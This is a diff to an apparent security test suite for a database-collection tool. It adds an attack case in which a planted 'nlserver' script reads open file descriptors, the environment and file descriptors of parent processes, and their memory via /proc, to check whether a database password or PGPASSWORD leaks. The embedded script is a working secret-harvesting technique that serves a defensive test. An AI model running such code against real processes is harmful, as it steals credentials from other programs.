@@ -1099,6 +1099,44 @@ def ordinary_account():
         return ["it ran as dba"] if "1003" in file.read() else []
 
 
+def ordinary_parents():
+    """dba owns the tree, and collects: its nlserver is no friend of it."""
+    tree_make(owner=ACCOUNTS["dba"], nlserver=PARENTS + """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+for name in os.listdir("/proc/self/fd"):
+    try:
+        if int(name) > 2:
+            os.set_blocking(int(name), False)
+            note("descriptor", repr(os.read(int(name), 4096)))
+    except OSError:
+        pass
+for pid in parents():
+    for name in ("environ", *("fd/%d" % n for n in range(3, 20))):
+        try:
+            at = os.open(f"/proc/{pid}/{name}", os.O_RDONLY | os.O_NONBLOCK)
+            note("read", repr(os.read(at, 100000)))
+        except OSError:
+            pass
+    try:
+        with open(f"/proc/{pid}/maps") as maps, \\
+                open(f"/proc/{pid}/mem", "rb") as mem:
+            for line in maps:
+                low, high = (int(n, 16) for n in line.split()[0].split("-"))
+                if high - low < 1 << 24:
+                    try:
+                        mem.seek(low)
+                        note("memory", repr(mem.read(high - low)))
+                    except (OSError, OverflowError):
+                        pass
+    except OSError:
+        pass
+""")
+    for more in ({"password": SECRET}, {"env": {"PGPASSWORD": SECRET}}):
+        collect(*database(host="127.0.0.1", port=1), user="dba",
+                output="/home/dba/out.tar.gz", **more)
+
+
 # ---- what has to go on working ----
 
 def ran():
@@ -1281,7 +1319,9 @@ ATTACKS = [
     (words_for_the_terminal, "escape sequences in names and output", "owner",
      False),
     (ordinary_account, "the same against an account that is not root",
-     "stranger", False),
+     "stranger", True),
+    (ordinary_parents, "descriptors and parents of an account that is not root",
+     "owner", True),
 ]
 
 
